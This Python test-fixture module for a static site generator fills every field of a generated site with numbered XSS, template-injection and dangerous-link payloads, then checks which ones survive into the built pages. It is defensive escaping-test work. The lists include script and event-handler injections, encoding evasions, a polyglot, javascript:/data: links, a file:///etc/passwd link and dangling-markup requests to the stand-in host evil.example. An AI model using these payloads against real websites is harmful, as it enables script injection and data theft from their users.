"""What somebody could write into a field so that a browser runs it, asks elsewhere or loses its way.

:func:`write_site` puts each of them into each field that a page, a feed or the search prints. Each has a
number of its own: what runs calls ``attack(17)``, what asks elsewhere asks ``evil.example/17``, and
:class:`Injections` tells which field that was. With :class:`Harmless` the same site is made of plain words.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from html import escape
from pathlib import Path

from generator.commands.scaffold import import_briefing
from generator.errors import BriefingError, ContentErrors
from generator.importing import import_file
from generator.reading.frontmatter import parse_front_matter
from tests.building.conftest import write

TEXTS = (
    "<script>attack({n})</script>",
    '"><script>attack({n})</script>',
    "'><img src=x onerror=attack({n})>",
    "<img src=x onerror=attack({n})//",
    '" onfocus=attack({n}) autofocus tabindex=1 x="',
    "' onmouseover=attack({n}) style='position:fixed;inset:0' x='",
    "` onclick=attack({n}) x=`",
    "</title><script>attack({n})</script>",
    "</style><script>attack({n})</script>",
    "</textarea><svg onload=attack({n})>",
    "</script><script>attack({n})</script>",
    "</noscript><script>attack({n})</script>",
    "--><svg/onload=attack({n})>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>attack({n})</script>",
    '<iframe srcdoc="<script>parent.attack({n})</script>">',
    "<iframe src=javascript:parent.attack({n})>",
    "<object data='data:text/html,<script>parent.attack({n})</script>'>",
    "<embed src=//evil.example/{n}>",
    "<base href=https://evil.example/{n}/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/{n}">',
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    'x" style="background:url(https://evil.example/{n})',
    "<img src='https://evil.example/{n}?",
    '<a href="https://evil.example/{n}?',
    "<form action=https://evil.example/{n}><button autofocus>",
    "<textarea>evil.example/{n}",
    "<plaintext>evil.example/{n}",
    "<math><mi xlink:href=javascript:attack({n})>x",
    "<svg><animate onbegin=attack({n}) attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/{n}#x>",
    "<details open ontoggle=attack({n})>",
    "<video><source onerror=attack({n})></video>",
    "<input autofocus onfocus=attack({n})>",
    "<x contenteditable autofocus onfocus=attack({n})>",
    "<template shadowrootmode=open><script>attack({n})</script></template>",
    "&lt;script&gt;attack({n})&lt;/script&gt;",
    "&#60;img src=x onerror=attack({n})&#62;",
    "\\u003cscript\\u003eattack({n})\\u003c/script\\u003e",
    "%3Cscript%3Eattack({n})%3C/script%3E",
    "{{ ''.join(['template', 'ran']) }}{{ attack({n}) }}{% set x = attack({n}) %}",
    "${attack({n})}",
    "`-attack({n})-`",
    "';attack({n});//",
    '\\";attack({n});//',
    "*/attack({n})/*",
    "\u2028attack({n})\u2029",
    "<ſcript>attack({n})</ſcript>",  # in capitals, SCRIPT
    "＜script＞attack({n})＜/script＞",  # NFKC makes them signs
    "<scr\u00adipt>attack({n})</scr\u00adipt>",
    "\u202e<script>attack({n})</script>",
    "<noscript><p title='</noscript><img src=x onerror=attack({n})>'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=attack({n}) )//</stYle/</titLe/</scRipt/\\x3csVg/<sVg/oNloAd=attack({n})//>\\x3e",  # noqa: E501
    "javascript:attack({n})",
)
LINKS = (
    "javascript:attack({n})",
    " javascript:attack({n})",
    "java\tscript:attack({n})",
    "\x01javascript:attack({n})",
    "\u00a0javascript:attack({n})",
    "\ufeffjavascript:attack({n})",
    "JaVaScRiPt:attack({n})",
    "&#106;avascript:attack({n})",
    "javascript&colon;attack({n})",
    "javascript%3Aattack({n})",
    "data:text/html,<script>attack({n})</script>",
    "vbscript:attack({n})",
    "view-source:javascript:attack({n})",
    "blob:javascript:attack({n})",
    "file:///etc/passwd?attack({n})",
    'https://elsewhere.example/"onmouseover=attack({n}) x="',
    "https://elsewhere.example/'><script>attack({n})</script>",
    "https://elsewhere.example/attack({n})?<script>",
    "https://elsewhere.example/#javascript:attack({n})",
    "mailto:a@elsewhere.example?body=<script>attack({n})</script>",
    "x.html#\"><script>attack({n})</script>",
)  # fmt: skip
TRIED = re.compile(rb"attack\((\d+)\)|evil\.example/(\d+)", re.I)
PHOTO = b"\x89PNG\r\n\x1a\n"


@dataclass
class Injections:
    """Gives each text that is asked for a number of its own."""

    texts: tuple[str, ...] = TEXTS
    links: tuple[str, ...] = LINKS
    made: dict[int, tuple[str, str]] = field(default_factory=dict)

    def text(self, number: int, where: str) -> str:
        return self._numbered(where, self.texts[number % len(self.texts)])

    def link(self, number: int, where: str, accepts: Callable[[str], bool]) -> str:
        """The link, where the field takes it; where it is refused there is nothing to try in a browser."""
        written = self._numbered(where, self.links[number % len(self.links)])
        return written if accepts(written) else "https://elsewhere.example/"

    def _numbered(self, where: str, payload: str) -> str:
        number = len(self.made) + 1
        self.made[number] = (where, payload)
        return payload.replace("{n}", str(number))

    def told(self, numbers: set[int]) -> list[tuple[str, str]]:
        return [self.made[number] for number in sorted(numbers)]


class Harmless(Injections):
    """The same fields, filled with plain words."""

    def _numbered(self, where: str, payload: str) -> str:
        plain = "https://elsewhere.example/" if payload in self.links else "Plain words"
        return super()._numbered(where, f"{plain} {{n}}" if plain == "Plain words" else plain)


def is_link(value: str) -> bool:
    """Whether front matter takes it for the address of a source; a registry and a verdict ask the same."""
    try:
        parse_front_matter(f"source: {{url: {json.dumps(value)}}}\n", "content/a.md", 1)
    except ContentErrors:
        return False
    return True


def tried(folder: Path) -> set[int]:
    """The numbers of all injections that stand in a file of the site."""
    every = b"".join(path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file())
    return {int(first or second) for first, second in TRIED.findall(every)}


# --- the site ------------------------------------------------------------------


def write_site(root: Path, attack: Injections, *, pipeline: str = "none") -> None:
    """A site with every injection in every field, by turns, for :func:`generator.building.publishing.build`."""  # noqa: E501
    count = len(attack.texts)
    (root / "content").mkdir(parents=True)
    _settings(root, attack, pipeline)
    names = [attack.text(number, "registry: name") for number in range(count)]
    write(root, "speakers.yaml", json.dumps([_person(root, attack, *one) for one in enumerate(names)]))
    for number in range(count):
        _briefing(root, attack, number, names[number])
        _named_file(root, attack, number)
    write(root, "p.png", PHOTO)
    write(root, "hearing.md", _hearing(attack))
    _imported(root, attack)


def _settings(root: Path, attack: Injections, pipeline: str) -> None:
    count = len(attack.texts)
    every = {key: " ".join(attack.text(n, f"settings: {key}") for n in range(count)) for key in (
        "title", "description", "publisher", "author", "licence", "footer",
    )}  # fmt: skip
    (root / "static").mkdir(exist_ok=True)
    (root / "static" / "a'onerror=attack(0).svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    site = {
        **every,
        "contact": "mailto:desk@elsewhere.example",
        "logo": "a'onerror=attack(0).svg",
        "base_url": "https://briefings.example/sub/",
        "lang": "en",
        "redirects": {"old/'onload=attack(0)": "briefing-0"},
    }
    menu = {attack.text(n, "settings: menu"): "briefing-0" for n in range(count)}
    words = {
        attack.text(0, "settings: words"): attack.text(1, "settings: words"),
        "Speakers": attack.text(2, "words"),
    }
    lines = ["[site]", *(f"{key} = {_toml(value)}" for key, value in site.items())]
    lines += ["[site.menu]", *(f"{_toml(key)} = {_toml(value)}" for key, value in menu.items())]
    lines += ["[site.words.en]", *(f"{_toml(key)} = {_toml(value)}" for key, value in words.items())]
    lines += ["[language]", f'pipelines = {{en = "{pipeline}"}}', "[review]", "name_reviewers = true"]
    (root / "briefing.toml").write_text("\n".join(lines) + "\n", "utf-8")


def _toml(value: object) -> str:
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_toml(key)} = {_toml(one)}" for key, one in value.items()) + "}"
    return json.dumps(value)  # a JSON string is a TOML one


def _person(root: Path, attack: Injections, number: int, name: str) -> dict[str, object]:
    photo = f"photos/p{number}' onerror='attack(0).png"
    write(root, photo, PHOTO)
    body = attack.text(number, "registry: biography")
    link = attack.link(number, "registry: biography's link", lambda value: "\x01" not in value)
    return {
        "name": name,
        "titles": [
            {"title": attack.text(number, "registry: title"), "since": 2020},
            {"title": attack.text(number + 1, "registry: former title"), "until": 2019},
        ],
        "link": attack.link(number, "registry: link", is_link),
        "photo": photo,
        "biography": f"{body}\n\n[{body}]({link} '{body}')",
    }


def _briefing(root: Path, attack: Injections, number: int, speaker: str) -> None:
    def text(where: str, shift: int = 0) -> str:
        return attack.text(number + shift, where)

    head = {
        "title": text("title"),
        "date": f"2026-0{number % 9 + 1}-11",
        "summary": text("summary"),
        "authors": [text("author")],
        "tags": [text("tag"), "all"],
        "aliases": [f"old/{number}'onload=attack(0)"],
        "source": {
            "title": text("source: title"),
            "publisher": text("source: publisher"),
            "licence": text("source: licence"),
            "url": attack.link(number, "source: url", is_link),
        },
        "corrections": [{"date": "2026-10-01", "text": text("correction")}],
        "speakers": [{"name": "Ada Example", "aliases": [text("hint: alias")]}],
        "facts": [
            {"label": text("fact: label"), "value": text("fact: value"), "source": text("fact: source")}
        ],
    }
    if number % 7 == 6:
        head |= {"withdrawn": text("withdrawn")}
    if number % 7 == 5:
        head |= {"kind": "speech", "speakers": [{"name": text("hint: name"), "title": text("hint: title")}]}
    first, second = f"“The gate number {number} was shut,”", f"“It stood open in month {number},”"
    body = _body(attack, number, text) + f"\n\n{first} said Ada Example.\n\n{second} said Ben Other, 40.\n"
    write(root, f"briefing-{number}.md", f"---\n{json.dumps(head)}\n---\n\n{body}")
    of = {"by": text("review: by"), "at": "2026-05-01T10:00:00Z", "note": text("review: note")}
    corrections = [
        {"action": "attribute", "target": "attribution", "content": first, "speakers": [speaker]},
        {"action": "attribute", "target": "attribution", "content": second, "speakers": [text("review: name")]},  # noqa: E501
        {"action": "add", "target": "assertion", "content": first, "speakers": [speaker],
         "wording": text("review: wording")},
        {"action": "verdict", "target": "assertion", "content": first, "value": text("review: verdict"),
         "link": attack.link(number, "review: link", is_link)},
        {"action": "add", "target": "account-pair", "content": first, "against": second,
         "subject": text("review: subject")},
        {"action": "add", "target": "fact", "kind": "person", "content": "Ben Other",
         "value": text("review: fact"), "title": text("review: title of a fact")},
        {"action": "add", "target": "fact", "kind": "number", "content": {"exact": "40", "prefix": "Other,"},
         "value": 40, "unit": text("review: unit"), "about": text("review: about")},
    ]  # fmt: skip
    write(root, f"briefing-{number}.review.yaml", json.dumps([one | of for one in corrections]))


def _body(attack: Injections, number: int, text: Callable[..., str]) -> str:
    def link(where: str) -> str:
        return attack.link(number, where, lambda _: True)

    return "\n\n".join(
        (
            "Words before.",
            text("body: words"),
            f"## {text('body: heading')}",
            f"- {text('body: item')}",
            f"> {text('body: quotation')}",
            f"| {text('body: cell')} | b |\n|---|---|\n| {text('body: cell')} | d |",
            f"```{text('body: language')}\n{text('body: code')}\n```",
            f"`{text('body: words in code')}`",
            f'[{text("body: words of a link")}]({link("body: link")} "{text("body: title of a link")}")',
            f"[x](<{link('body: link in signs')}>) <{link('body: automatic link')}> [y][r]",
            f"[r]: {link('body: reference')} '{text('body: title of a reference')}'",
            f'![{text("body: alt")}](p.png "{text("body: caption")} | {text("body: credit")}")',
            f"Words ![{text('body: alt')}](p.png '{text('body: title')}') go on.[^1]",
            f"“{text('body: spoken words')},” said {text('body: name')}.",
            f"[^1]: {text('body: note')} [n]({link('body: link in a note')})",
        )
    )


def _named_file(root: Path, attack: Injections, number: int) -> None:
    """A source and a picture whose names are injections, where a file can be called so."""
    name = attack.text(number, "file name").replace("/", "\u2215")
    write(
        root,
        f"named/{name}.md",
        f"Words of file {number}.\n\n“Yes,” said Ada Example.\n\n![p](<{name}.png>)\n",
    )
    write(root, f"named/{name}.png", PHOTO)


def _hearing(attack: Injections) -> str:
    labels = [attack.text(number, "label").replace(":", "").upper() for number in range(len(attack.texts))]
    turns = "\n\n".join(f"{label}: We looked at item {number}." for number, label in enumerate(labels))
    return (
        f"---\ntitle: Hearing\ndate: 2026-01-01\nkind: transcript\n---\n\nTHE CHAIR: We begin.\n\n{turns}\n"
    )


def _imported(root: Path, attack: Injections) -> None:
    """What other programs wrote, taken in as ``briefing new briefing --from`` does, and published."""
    for number in range(len(attack.texts)):
        for ending, made in (("html", _webpage), ("vtt", _subtitles), ("eml", _mail)):
            if ending == "html" and number % 10:
                continue  # each costs as much as ten of the others
            saved = root / f"from-{number}.{ending}"
            saved.write_text(made(attack, number), "utf-8")
            with suppress(BriefingError):
                title = f"Imported {ending} {number}" if ending == "vtt" or number % 2 else ""
                draft = import_briefing(root / "content", title, import_file(saved), saved.name)
                draft.write_text(draft.read_text("utf-8").replace("draft: true\n", ""), "utf-8")


def _webpage(attack: Injections, number: int) -> str:
    def text(where: str) -> str:
        return escape(attack.text(number, f"web page: {where}"))

    words = "The gate at the harbour was shut for a week, and nobody had said why it was shut. "
    return (
        f"<html lang=en><head><title>{text('title')}</title><meta name=author content='{text('author')}'>"
        f"<meta property='og:site_name' content='{text('publisher')}'><link rel=canonical "
        f"href='https://elsewhere.example/{text('address')}'></head><body><article><h1>{text('heading')}</h1>"
        f"<p>{words * 3}{text('words')}</p><p>“We waited,” said {text('name')}. {words * 3}</p></article></body></html>"  # noqa: E501
    )


def _subtitles(attack: Injections, number: int) -> str:
    voice, said = attack.text(number, "subtitles: voice"), attack.text(number, "subtitles: words")
    lines = f"<v {voice}>{said}", said, "<v Ada Example>We waited."
    return "WEBVTT\n\n" + "\n\n".join(
        f"00:0{at}.000 --> 00:0{at + 1}.000\n{one}" for at, one in enumerate(lines)
    )


def _mail(attack: Injections, number: int) -> str:
    subject, sender, said = (attack.text(number, f"mail: {one}") for one in ("subject", "sender", "words"))
    return f"Subject: Letter {number} {subject}\nFrom: {sender} <a@b.example>\n\nWords.\n\n{said}\n"
